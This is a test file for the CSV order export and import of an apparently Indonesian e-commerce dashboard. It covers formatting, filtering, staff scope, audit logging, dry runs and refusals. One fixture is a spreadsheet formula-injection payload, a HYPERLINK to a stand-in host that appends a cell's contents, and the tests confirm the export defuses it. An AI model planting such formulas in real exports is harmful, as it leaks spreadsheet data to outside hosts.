// The orders in spreadsheets (issue 33 §3, §4) on SQLite and PostgreSQL: the export's bytes
// (BOM, separator, columns, phone, formula injection made inert), exactly the view's rows over
// several chunks, the CS scope, the audit of every export (owner only); the import's dry run and
// apply (a refused line applies nothing, a second apply changes nothing), its refusals
// (scientific notation, moves the table refuses, scope), its limits and its 415, and an export
// re-imported as a dry run reports every line unchanged.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asMember, seedMember, type Member } from '../../../../test/dashboard-helpers.js';
import { seedOrder, seedProduct, seedStore, startTestApp, type Store } from '../../../../test/helpers.js';
import { seedOrders } from '../../../demo/seed-orders.js';
import { readCsv } from '../../../lib/csv/read-csv.js';
import { ManualClock } from '../../../lib/clock.js';
import { DASHBOARD_ERRORS } from '../../../lib/http/messages.js';
import { valueOf } from '../../../lib/outcome.js';
import { EXPORT_CHUNK, EXPORT_COLUMNS, exportCsv as exportStream, type ExportEnd } from './export-orders.js';
import { importOrders, MAX_IMPORT_LINES } from './import-orders.js';
import { memberActor } from '../../core/member-actor.js';
import { readOrderFilters } from '../list/order-filters.js';

let t: Awaited<ReturnType<typeof startTestApp>>;
let store: Store;
let owner: Member;
let admin: Member;
let rani: Member; // CS
let kaos: number;

const NOW = Date.UTC(2026, 6, 15, 3, 30);
const BUYER = { name: 'Budi Santoso', phone: '0813-1111-2222', address: 'Jl. Kenanga 1', village: 'Sukamaju', district: 'Coblong', city: 'Bandung', province: 'Jawa Barat', postal_code: '40132' };

let placed = 0;
/** An order of the store, each a minute after the last (newest first is then the reverse). */
async function order(input: Record<string, unknown> = {}, customer: Record<string, unknown> = {}): Promise<number> {
  placed += 1;
  t.clock.set(NOW - 86_400_000 + placed * 60_000);
  const { id } = await seedOrder(t.ctx, store.tenantId, { product_id: kaos, customer: { ...BUYER, ...customer }, ...input });
  t.clock.set(NOW);
  return id;
}
const setOrder = (id: number, values: { status?: string; resi?: string | null; assigned_user_id?: number | null; customer_name?: string }) =>
  t.ctx.db.updateTable('orders').set(values).where('tenant_id', '=', store.tenantId).where('id', '=', id).execute();
const orderRow = (id: number) => t.ctx.db.selectFrom('orders').select(['status', 'resi', 'updated_at']).where('id', '=', id).executeTakeFirstOrThrow();

const exportCsv = (member: Member, query = '') => t.request({ method: 'GET', url: `/dashboard/api/orders/export.csv?${query}`, headers: asMember(member) });
const upload = (member: Member, csv: string, query = '', type = 'text/csv') =>
  t.request({ method: 'POST', url: `/dashboard/api/orders/import?${query}`, payload: csv, headers: asMember(member, { 'content-type': type }) });
const exportsOf = (member: Member) => t.request({ method: 'GET', url: '/dashboard/api/orders/exports', headers: asMember(member) });

/** The file's records after its header, as cells keyed by column. */
function records(body: string): Array<Record<string, string>> {
  const [header, ...rows] = readCsv(body);
  expect(header!.cells).toEqual([...EXPORT_COLUMNS]);
  return rows.map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, r.cells[i] ?? ''])));
}
const exportedIds = async (member: Member, query = '') => {
  const res = await exportCsv(member, query);
  expect(res.statusCode, res.body).toBe(200);
  return records(res.body).map((r) => Number(r.order));
};
const listedIds = async (member: Member, query = '') => {
  const res = await t.request({ method: 'GET', url: `/dashboard/api/orders?limit=200&${query}`, headers: asMember(member) });
  expect(res.statusCode, res.body).toBe(200);
  return (res.json().orders as Array<{ id: number }>).map((o) => o.id);
};

beforeAll(async () => {
  t = await startTestApp({ env: { TZ: 'Asia/Jakarta' }, clock: new ManualClock(NOW) });
  store = await seedStore(t.ctx, {});
  owner = await seedMember(t.ctx, store.tenantId, 'owner', { name: 'Pemilik' });
  admin = await seedMember(t.ctx, store.tenantId, 'admin');
  rani = await seedMember(t.ctx, store.tenantId, 'cs', { name: 'Rani' });
  kaos = (await seedProduct(t.ctx, store.tenantId, { name: 'Kaos', price: 50000 })).id;
});
afterAll(() => t.drop());

describe('GET /dashboard/api/orders/export.csv', () => {
  let plain: number, injected: number, shipped: number, ranis: number;
  beforeAll(async () => {
    plain = await order({}, { phone: '0812-3456-7890', email: 'budi@example.com' });
    injected = await order({ payment_method: 'cod' });
    await setOrder(injected, { customer_name: '=HYPERLINK("https://evil.test/?x="&A1,"Klik")' });
    shipped = await order();
    await setOrder(shipped, { status: 'shipped', resi: '-JX9' });
    ranis = await order({ courier: 'J&T' }, { name: 'Ani; "Kutip"' });
    await setOrder(ranis, { assigned_user_id: rani.userId });
  });

  it('is UTF-8 with a BOM, `;` and CRLF, one header row, a dated attachment, phones as 0812-3456-7890', async () => {
    const res = await exportCsv(owner);
    expect(res.statusCode, res.body).toBe(200);
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="pesanan-2026-07-15-1030.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    const text = res.rawPayload.subarray(3).toString('utf8');
    expect(text.startsWith(`${EXPORT_COLUMNS.join(';')}\r\n`)).toBe(true);
    const rows = records(res.body);
    expect(rows.map((r) => Number(r.order))).toEqual([ranis, shipped, injected, plain]);
    const first = rows.find((r) => Number(r.order) === plain)!;
    expect(first).toMatchObject({
      status: 'pending',
      source: 'cli',
      product_id: String(kaos),
      product: 'Kaos',
      quantity: '1',
      unit_price: '50000',
      shipping_fee: '10000',
      total: '60000',
      payment_method: 'bank_transfer',
      courier: 'JNE',
      resi: '',
      customer_name: 'Budi Santoso',
      customer_phone: '0812-3456-7890',
      customer_email: 'budi@example.com',
      customer_province: 'Jawa Barat',
      customer_postal_code: '40132',
      cs: '',
    });
    // Wall times of the store's zone (the server's here, Asia/Jakarta).
    expect(first.created_at).toMatch(/^2026-07-14 \d\d:\d\d:00$/);
    expect(text).toContain(';0812-3456-7890;');
    // A `;` and quotes inside a cell are quoted, and read back whole.
    expect(rows.find((r) => Number(r.order) === ranis)).toMatchObject({ customer_name: 'Ani; "Kutip"', courier: 'J&T', cs: 'Rani' });
  });

  it("makes formulas inert: a cell starting with =, -, + or @ is prefixed with '", async () => {
    const rows = records((await exportCsv(owner)).body);
    expect(rows.find((r) => Number(r.order) === injected)!.customer_name).toBe(`'=HYPERLINK("https://evil.test/?x="&A1,"Klik")`);
    expect(rows.find((r) => Number(r.order) === shipped)!.resi).toBe("'-JX9");
    expect((await exportCsv(owner)).body).not.toMatch(/;=HYPERLINK/);
  });

  it("holds exactly the view's orders: the tab, the filters and the search, as the list shows them", async () => {
    for (const query of ['', 'status=shipped', 'status=pending', 'payment_method=cod', 'courier=J%26T', 'q=budi', 'q=0812-3456-7890', `cs=${rani.userId}`, 'cs=none', 'status=completed']) {
      expect(await exportedIds(owner, query), query).toEqual(await listedIds(owner, query));
    }
    expect(await exportedIds(owner, 'status=completed')).toEqual([]);
  });

  it("a CS exports only the orders assigned to them", async () => {
    expect(await exportedIds(rani)).toEqual([ranis]);
    expect(await exportedIds(rani, 'status=shipped')).toEqual([]);
  });

  it("answers the list's 422s before anything is written", async () => {
    const before = (await exportsOf(owner)).json().exports.length;
    expect((await exportCsv(owner, 'q=ab')).json()).toMatchObject({ code: 'query_too_short' });
    expect((await exportCsv(owner, 'from=2026-02-30')).json()).toMatchObject({ code: 'invalid_request', fields: { from: expect.any(String) } });
    expect((await exportCsv(owner, 'cursor=abc')).statusCode).toBe(422);
    expect((await exportsOf(owner)).json().exports.length).toBe(before);
  });

  it('reads the view in chunks: every order once, newest first, across chunk boundaries', async () => {
    const big = await seedStore(t.ctx, {});
    const bigOwner = await seedMember(t.ctx, big.tenantId, 'owner');
    const count = EXPORT_CHUNK * 2 + 37;
    valueOf(await seedOrders(t.ctx.db, t.clock, { tenantId: big.tenantId, count, days: 3, seed: 7 }));
    const expected = await t.ctx.db.selectFrom('orders').select('id').where('tenant_id', '=', big.tenantId).orderBy('created_at', 'desc').orderBy('id', 'desc').execute();
    const ids = await exportedIds(bigOwner);
    expect(ids.length).toBe(count);
    expect(ids).toEqual(expected.map((r) => Number(r.id)));
    // The entry's count is written once the last row has gone out, after the answer's end.
    await expect.poll(async () => (await exportsOf(bigOwner)).json().exports[0]).toMatchObject({ rows: count, finished: true, query: {} });

    // Backpressure: a client that takes nothing holds the export near its first rows, not the
    // whole view read ahead; one that leaves ends it, said so (not finished).
    const filters = valueOf(readOrderFilters({}, 'Asia/Jakarta', Date.now()));
    const ends: ExportEnd[] = [];
    const stalled = exportStream(t.ctx.db, big.tenantId, { kind: 'all' }, { status: null, filters, header: 'code' }, 'Asia/Jakarta', (end) => ends.push(end));
    let written = 0;
    stalled.on('record', () => (written += 1));
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(written).toBeGreaterThan(0);
    expect(written).toBeLessThan(EXPORT_CHUNK);
    stalled.destroy();
    await expect.poll(() => ends).toEqual([{ rows: written, finished: false }]);
    // The same, read to the end.
    const whole: ExportEnd[] = [];
    let bytes = 0;
    for await (const chunk of exportStream(t.ctx.db, big.tenantId, { kind: 'all' }, { status: null, filters, header: 'code' }, 'Asia/Jakarta', (end) => whole.push(end))) bytes += (chunk as Buffer).length;
    expect(bytes).toBeGreaterThan(count * 100);
    await expect.poll(() => whole).toEqual([{ rows: count, finished: true }]);
  });
});

describe('GET /dashboard/api/orders/exports', () => {
  it('records every export: who, when, the query, the rows; newest first; the owner only', async () => {
    await order({ payment_method: 'cod' });
    const cod = (await exportedIds(rani, 'payment_method=cod')).length;
    await exportedIds(owner, 'status=pending&courier=JNE');
    await expect.poll(async () => (await exportsOf(owner)).json().exports.slice(0, 2).map((e: { finished: boolean }) => e.finished)).toEqual([true, true]);
    const res = await exportsOf(owner);
    expect(res.statusCode).toBe(200);
    const [last, before] = res.json().exports;
    expect(last).toMatchObject({ user: { id: owner.userId, name: 'Pemilik' }, query: { status: 'pending', courier: 'JNE' }, rows: (await listedIds(owner, 'status=pending&courier=JNE')).length, finished: true });
    expect(last.created_at).toBe('2026-07-15T10:30:00+07:00');
    expect(before).toMatchObject({ user: { id: rani.userId, name: 'Rani' }, query: { payment_method: 'cod' }, rows: cod, finished: true });
    expect(last.id).toBeGreaterThan(before.id);
    for (const member of [admin, rani]) expect((await exportsOf(member)).json()).toMatchObject({ code: 'forbidden' });
  });
});

type State = { status: string; resi: string | null };
type Report = { lines: Array<{ line: number; order: number | null; outcome: string; code?: string; message?: string; before?: State; after?: State }>; changed: number; unchanged: number; refused: number; applied: boolean };

describe('POST /dashboard/api/orders/import', () => {
  it('a dry run reports each line and changes nothing; a refused line applies nothing; then the good file applies once', async () => {
    const a = await order();
    const b = await order();
    await setOrder(a, { status: 'paid' });
    await setOrder(b, { status: 'paid' });
    const before = [await orderRow(a), await orderRow(b)];
    const bad = `order;resi;status\r\n${a};JNE0001;shipped\r\n${b};1,23E+11;shipped\r\n`;

    const dry = await upload(owner, bad, 'dry_run=1');
    expect(dry.statusCode, dry.body).toBe(200);
    expect(dry.json()).toEqual({
      lines: [
        { line: 2, order: a, outcome: 'changed', before: { status: 'paid', resi: null }, after: { status: 'shipped', resi: 'JNE0001' } },
        { line: 3, order: b, outcome: 'refused', code: 'resi_scientific', message: expect.stringContaining('Teks'), before: { status: 'paid', resi: null } },
      ],
      changed: 1,
      unchanged: 0,
      refused: 1,
      applied: false,
    });
    const applied = (await upload(owner, bad)).json() as Report;
    expect(applied).toMatchObject({ applied: false, changed: 1, refused: 1 });
    expect([await orderRow(a), await orderRow(b)]).toEqual(before);

    const good = `order,resi,status\n${a},JNE0001,shipped\n${b},JNE0002,shipped\n`;
    expect((await upload(owner, good, 'dry_run=1')).json()).toMatchObject({ changed: 2, applied: false });
    expect([await orderRow(a), await orderRow(b)]).toEqual(before);
    expect((await upload(owner, good)).json()).toMatchObject({ changed: 2, unchanged: 0, refused: 0, applied: true });
    expect(await orderRow(a)).toMatchObject({ status: 'shipped', resi: 'JNE0001' });
    expect(await orderRow(b)).toMatchObject({ status: 'shipped', resi: 'JNE0002' });
    const history = await t.ctx.db.selectFrom('order_history').select(['source', 'actor', 'actor_user_id', 'field', 'new_value']).where('order_id', '=', a).orderBy('id').execute();
    expect(history.slice(-2)).toEqual([
      { source: 'import', actor: 'Pemilik', actor_user_id: owner.userId, field: 'status', new_value: 'shipped' },
      { source: 'import', actor: 'Pemilik', actor_user_id: owner.userId, field: 'resi', new_value: 'JNE0001' },
    ]);

    const entries = async () => (await t.ctx.db.selectFrom('order_history').select('id').where('order_id', 'in', [a, b]).execute()).length;
    const written = await entries();
    const again = (await upload(owner, good)).json() as Report;
    expect(again).toMatchObject({ changed: 0, unchanged: 2, refused: 0, applied: true });
    expect(await entries()).toBe(written);
  });

  it('changes a resi alone, reads resi or status alone, and leaves blank cells as they are', async () => {
    const a = await order();
    await setOrder(a, { status: 'shipped', resi: 'OLD1' });
    expect((await upload(owner, `order;resi\n${a};NEW1\n`)).json()).toMatchObject({ changed: 1, applied: true });
    expect(await orderRow(a)).toMatchObject({ status: 'shipped', resi: 'NEW1' });
    expect((await upload(owner, `order;resi;status\n${a};;\n`)).json()).toMatchObject({ unchanged: 1 });
    expect((await upload(owner, `order;status\n${a};completed\n`)).json()).toMatchObject({ changed: 1 });
    expect(await orderRow(a)).toMatchObject({ status: 'completed', resi: 'NEW1' });
  });

  it('refuses, line by line: scientific notation, moves the table refuses, unknown orders and values, duplicates', async () => {
    const paid = await order();
    await setOrder(paid, { status: 'paid' });
    const pending = await order();
    const notRanis = await order();
    const other = await order();
    const file = [
      'order;resi;status',
      `${paid};1.23E+11;shipped`,
      `${paid};;completed`,
      `${pending};;shipped`,
      `abc;;paid`,
      `99999999;;paid`,
      `${notRanis};;terbang`,
      `${other};${'x'.repeat(61)};`,
    ].join('\n');
    const report = (await upload(owner, file, 'dry_run=1')).json() as Report;
    expect(report.lines.map((l) => [l.line, l.order, l.outcome, l.code])).toEqual([
      [2, paid, 'refused', 'resi_scientific'],
      [3, paid, 'refused', 'duplicate_order'],
      [4, pending, 'refused', 'status_move_not_allowed'],
      [5, null, 'refused', 'invalid_order'],
      [6, 99999999, 'refused', 'order_not_found'],
      [7, notRanis, 'refused', 'invalid_status'],
      [8, other, 'refused', 'invalid_resi'],
    ]);
    expect(report.lines[1]!.message).toBe('Pesanan ini sudah ada di baris 2.');
    expect(report.lines[2]!.message).toBe('Status pesanan tidak dapat dipindah dari Menunggu ke Dikirim.');
    const moves = (await upload(owner, `order;resi;status\n${paid};;shipped\n${pending};;completed\n`, 'dry_run=1')).json() as Report;
    expect(moves.lines.map((l) => l.code)).toEqual(['resi_required', 'status_move_not_allowed']);
    // A move that undoes needs a reason, given on the order's page only.
    expect((await upload(owner, `order;status\n${paid};cancelled\n`, 'dry_run=1')).json().lines[0].code).toBe('reason_required');
    // A CS: the table's member moves only, and only their orders.
    await setOrder(paid, { assigned_user_id: rani.userId });
    expect((await upload(rani, `order;status\n${paid};cancelled\n${notRanis};closing\n`, 'dry_run=1')).json().lines.map((l: { code: string }) => l.code)).toEqual([
      'status_move_not_allowed',
      'order_not_found',
    ]);
    expect((await upload(rani, `order;status\n${paid};shipped\n`)).json().lines[0].code).toBe('resi_required');
    expect((await upload(rani, `order;resi;status\n${paid};SPX77;shipped\n`)).json()).toMatchObject({ changed: 1, applied: true });
  });

  it('takes off the `\'` the export put before a cell', async () => {
    const a = await order();
    await setOrder(a, { status: 'shipped' });
    expect((await upload(owner, `order;resi\n${a};'-JX10\n`)).json()).toMatchObject({ changed: 1 });
    expect((await orderRow(a)).resi).toBe('-JX10');
  });

  it('an export re-imported as a dry run reports every line unchanged', async () => {
    const file = await exportCsv(owner);
    expect(file.statusCode).toBe(200);
    const count = records(file.body).length;
    expect(count).toBeGreaterThan(10);
    const res = await upload(owner, file.rawPayload.toString('utf8'), 'dry_run=1');
    expect(res.statusCode, res.body).toBe(200);
    const report = res.json() as Report;
    expect(report).toMatchObject({ changed: 0, refused: 0, unchanged: count, applied: false });
    expect(report.lines.every((l) => l.outcome === 'unchanged')).toBe(true);
    // A CS's own export too.
    const ranis = await exportCsv(rani);
    expect((await upload(rani, ranis.body, 'dry_run=1')).json()).toMatchObject({ changed: 0, refused: 0, unchanged: records(ranis.body).length });
  });

  it('reports an order changed by someone else after the check, and applies the others', async () => {
    const a = await order();
    const b = await order();
    const actor = await memberActor(t.ctx.db, owner.userId, 'import');
    let first = true;
    // The first order's transaction finds it moved meanwhile: the check saw pending.
    const writeTransaction: typeof t.ctx.writeTransaction = async (work, options) => {
      if (first) {
        first = false;
        await setOrder(a, { status: 'cancelled' });
      }
      return t.ctx.writeTransaction(work, options);
    };
    const report = valueOf(
      await importOrders({ ...t.ctx, writeTransaction }, store.tenantId, { scope: { kind: 'all' }, mover: { manager: true }, actor }, `order;status\n${a};closing\n${b};closing\n`, { dryRun: false, shipWithResi: false }),
    );
    expect(report.lines).toEqual([
      { line: 2, order: a, outcome: 'refused', code: 'status_conflict', message: expect.any(String), before: { status: 'pending', resi: null } },
      { line: 3, order: b, outcome: 'changed', before: { status: 'pending', resi: null }, after: { status: 'closing', resi: null } },
    ]);
    expect(report).toMatchObject({ applied: true, changed: 1, refused: 1 });
    expect((await orderRow(b)).status).toBe('closing');
  });

  it('answers 415 with its own text for a body that is not text/csv, 422 for a file without its header or too long, 413 past the size', async () => {
    const wrong = await upload(owner, 'order;status\n1;paid\n', '', 'text/plain');
    expect(wrong.statusCode).toBe(415);
    expect(wrong.json()).toMatchObject({ code: 'orders_csv_required', error: DASHBOARD_ERRORS.orders_csv_required.error });
    expect(DASHBOARD_ERRORS.orders_csv_required.error).not.toBe(DASHBOARD_ERRORS.csv_required.error);
    expect((await upload(owner, 'order;status\n1;paid\n', '', 'application/json')).json()).toMatchObject({ code: 'orders_csv_required' });
    for (const file of ['', 'pesanan;resi\n1;X\n', 'order;nama\n1;X\n']) {
      expect((await upload(owner, file, 'dry_run=1')).json(), file).toMatchObject({ code: 'import_no_header' });
    }
    const long = `order;status\n${'1;paid\n'.repeat(MAX_IMPORT_LINES + 1)}`;
    expect((await upload(owner, long, 'dry_run=1')).json()).toMatchObject({ code: 'import_too_many_lines' });
    const huge = `order;status\n${`1;${'x'.repeat(1000)}\n`.repeat(2200)}`;
    expect((await upload(owner, huge, 'dry_run=1')).statusCode).toBe(413);
    expect((await upload(owner, 'order;status\n', 'dry_run=yes')).json()).toMatchObject({ code: 'invalid_request', fields: { dry_run: expect.any(String) } });
  });
});

// Issue 40 §3: the spreadsheet in the seller's words.
describe('POST /dashboard/api/orders/import in the seller\'s words', () => {
  it('reads statuses as the dashboard writes them, in any case, beside the codes', async () => {
    const ids = [await order(), await order(), await order(), await order()];
    const file = ['order;status', `${ids[0]};Closing`, `${ids[1]};DIBAYAR`, `${ids[2]};dibatalkan`, `${ids[3]};Nomor HP Tidak Valid`].join('\n');
    const report = (await upload(owner, file)).json() as Report;
    expect(report).toMatchObject({ changed: 4, refused: 0, applied: true });
    expect(await Promise.all(ids.map(async (id) => (await orderRow(id)).status))).toEqual(['closing', 'paid', 'cancelled', 'invalid_no_hp']);
    // Back through the table's member moves, by label and by code alike: unchanged.
    expect((await upload(owner, `order;status\n${ids[0]};closing\n${ids[1]};Dibayar\n`, 'dry_run=1')).json()).toMatchObject({ unchanged: 2 });
  });

  it('names statuses in Indonesian when it refuses', async () => {
    const a = await order();
    const report = (await upload(owner, `order;status\n${a};Dikirim\n`, 'dry_run=1')).json() as Report;
    expect(report.lines[0]).toMatchObject({ code: 'status_move_not_allowed', message: 'Status pesanan tidak dapat dipindah dari Menunggu ke Dikirim.', before: { status: 'pending', resi: null } });
    const b = await order();
    const unknown = (await upload(owner, `order;status\n${b};terbang\n`, 'dry_run=1')).json() as Report;
    expect(unknown.lines[0]!.code).toBe('invalid_status');
    expect(unknown.lines[0]!.message).toContain('Menunggu, Closing, Nomor HP tidak valid, Dibayar, Dibatalkan, Dikirim, Selesai');
    expect(unknown.lines[0]!.message).not.toMatch(/pending|shipped/);
  });

  it('ships a paid order, or a COD order at closing, with its resi in one go; not an unpaid transfer', async () => {
    const paid = await order();
    const cod = await order({ payment_method: 'cod' });
    const transfer = await order();
    await setOrder(paid, { status: 'paid' });
    await setOrder(cod, { status: 'closing' });
    await setOrder(transfer, { status: 'closing' });
    const file = `Nomor pesanan;Resi;Status\n${paid};JP 1111 2222 33;Dikirim\n${cod};SPX 44;dikirim\n${transfer};JNE55;Dikirim\n`;
    const dry = (await upload(owner, file, 'dry_run=1')).json() as Report;
    expect(dry.lines).toEqual([
      { line: 2, order: paid, outcome: 'changed', before: { status: 'paid', resi: null }, after: { status: 'shipped', resi: 'JP1111222233' } },
      { line: 3, order: cod, outcome: 'changed', before: { status: 'closing', resi: null }, after: { status: 'shipped', resi: 'SPX44' } },
      { line: 4, order: transfer, outcome: 'refused', code: 'status_move_not_allowed', message: 'Status pesanan tidak dapat dipindah dari Closing ke Dikirim.', before: { status: 'closing', resi: null } },
    ]);
    const good = file.split('\n').slice(0, 3).join('\n');
    expect((await upload(owner, good)).json()).toMatchObject({ changed: 2, applied: true });
    expect(await orderRow(paid)).toMatchObject({ status: 'shipped', resi: 'JP1111222233' });
    expect(await orderRow(cod)).toMatchObject({ status: 'shipped', resi: 'SPX44' });
    // One status change, its resi beside it, source import; an event for the move.
    const history = await t.ctx.db.selectFrom('order_history').select(['field', 'old_value', 'new_value', 'source']).where('order_id', '=', cod).orderBy('id').execute();
    expect(history.slice(-2)).toEqual([
      { field: 'status', old_value: 'closing', new_value: 'shipped', source: 'import' },
      { field: 'resi', old_value: null, new_value: 'SPX44', source: 'import' },
    ]);
    // A CS: the same member move, within their scope only.
    const ranisCod = await order({ payment_method: 'cod' });
    await setOrder(ranisCod, { status: 'closing', assigned_user_id: rani.userId });
    expect((await upload(rani, `order;resi;status\n${ranisCod};JX1;Dikirim\n${transfer};JX2;Dikirim\n`, 'dry_run=1')).json().lines.map((l: { code?: string; outcome: string }) => l.code ?? l.outcome)).toEqual([
      'changed',
      'order_not_found',
    ]);
  });

  it('"tandai Dikirim bila resi diisi": a resi list alone ships what can ship, sets the resi of shipped orders, refuses the rest', async () => {
    const paid = await order();
    const cod = await order({ payment_method: 'cod' });
    const shipped = await order();
    const completed = await order();
    const pending = await order();
    const noResi = await order();
    await setOrder(paid, { status: 'paid' });
    await setOrder(cod, { status: 'closing' });
    await setOrder(shipped, { status: 'shipped', resi: 'OLD1' });
    await setOrder(completed, { status: 'completed', resi: 'OLD2' });
    await setOrder(noResi, { status: 'paid' });
    const list = `No. Resi,No. Pesanan\nJP 01,${paid}\nJP02,${cod}\nJP03,${shipped}\nOLD2,${completed}\n,${noResi}\n`;
    // Without the option, the resi alone changes.
    const plain = (await upload(owner, list, 'dry_run=1')).json() as Report;
    expect(plain.lines[0]).toMatchObject({ outcome: 'changed', before: { status: 'paid', resi: null }, after: { status: 'paid', resi: 'JP01' } });
    const dry = (await upload(owner, list, 'dry_run=1&ship_with_resi=1')).json() as Report;
    expect(dry.lines.map((l) => [l.order, l.outcome, l.after?.status, l.after?.resi])).toEqual([
      [paid, 'changed', 'shipped', 'JP01'],
      [cod, 'changed', 'shipped', 'JP02'],
      [shipped, 'changed', 'shipped', 'JP03'],
      [completed, 'unchanged', 'completed', 'OLD2'],
      [noResi, 'unchanged', 'paid', null],
    ]);
    expect((await upload(owner, list, 'ship_with_resi=1')).json()).toMatchObject({ changed: 3, unchanged: 2, applied: true });
    expect(await orderRow(paid)).toMatchObject({ status: 'shipped', resi: 'JP01' });
    expect(await orderRow(cod)).toMatchObject({ status: 'shipped', resi: 'JP02' });
    expect(await orderRow(shipped)).toMatchObject({ status: 'shipped', resi: 'JP03' });
    // An order that cannot ship is refused in its own words, and holds the file back.
    const refused = (await upload(owner, `order;resi\n${pending};JP09\n`, 'ship_with_resi=1')).json() as Report;
    expect(refused).toMatchObject({ applied: false, refused: 1 });
    expect(refused.lines[0]!.message).toBe('Status pesanan tidak dapat dipindah dari Menunggu ke Dikirim.');
    expect((await orderRow(pending)).resi).toBeNull();
    // A status written in the line wins over the option.
    const paid2 = await order();
    await setOrder(paid2, { status: 'paid' });
    expect((await upload(owner, `order;resi;status\n${paid2};JP10;Dibayar\n`, 'dry_run=1&ship_with_resi=1')).json().lines[0].after).toEqual({ status: 'paid', resi: 'JP10' });
    expect((await upload(owner, 'order;resi\n1;X\n', 'ship_with_resi=yes')).json()).toMatchObject({ code: 'invalid_request', fields: { ship_with_resi: expect.any(String) } });
  });

  it('takes a resi\'s spaces out, and a resi equal but for its spaces is unchanged', async () => {
    const a = await order();
    await setOrder(a, { status: 'shipped' });
    expect((await upload(owner, `order;resi\n${a};JP 1234 5678 90\n`)).json()).toMatchObject({ changed: 1, applied: true });
    expect((await orderRow(a)).resi).toBe('JP1234567890');
    expect((await upload(owner, `order;resi\n${a};JP12 3456 7890\n`, 'dry_run=1')).json()).toMatchObject({ unchanged: 1, changed: 0 });
  });

  it('reads the header in codes or in the seller\'s words, in any case', async () => {
    const a = await order();
    for (const header of ['Nomor pesanan;Status', 'NOMOR PESANAN;status pesanan', 'no. pesanan;Status', 'order_id;STATUS']) {
      expect((await upload(owner, `${header}\n${a};Closing\n`, 'dry_run=1')).json(), header).toMatchObject({ changed: 1 });
    }
    for (const file of ['Pesanan;Resi\n1;X\n', 'Nomor pesanan;Nama\n1;X\n']) expect((await upload(owner, file, 'dry_run=1')).json(), file).toMatchObject({ code: 'import_no_header' });
  });
});

describe('GET /dashboard/api/orders/export.csv?header=id', () => {
  it('writes the header row and the statuses in Indonesian; the codes stay the default', async () => {
    const a = await order();
    await setOrder(a, { status: 'paid' });
    const res = await exportCsv(owner, 'header=id&status=paid');
    expect(res.statusCode, res.body).toBe(200);
    const [header, ...rows] = readCsv(res.body);
    expect(header!.cells.slice(0, 5)).toEqual(['Nomor pesanan', 'Dibuat', 'Diubah', 'Status', 'Sumber']);
    expect(header!.cells).toContain('Resi');
    expect(header!.cells.length).toBe(EXPORT_COLUMNS.length);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row.cells[3]).toBe('Dibayar');
    expect(readCsv((await exportCsv(owner, 'status=paid')).body)[1]!.cells[3]).toBe('paid');
    expect((await exportCsv(owner, 'header=en')).json()).toMatchObject({ code: 'invalid_request', fields: { header: expect.any(String) } });
    await expect.poll(async () => (await exportsOf(owner)).json().exports.slice(0, 2).map((e: { query: unknown }) => e.query)).toEqual([{ status: 'paid' }, { header: 'id', status: 'paid' }]);
  });

  it('re-imported as it is, every line is unchanged', async () => {
    const res = await exportCsv(owner, 'header=id');
    const count = readCsv(res.body).length - 1;
    expect((await upload(owner, res.rawPayload.toString('utf8'), 'dry_run=1')).json()).toMatchObject({ changed: 0, refused: 0, unchanged: count });
  });
});
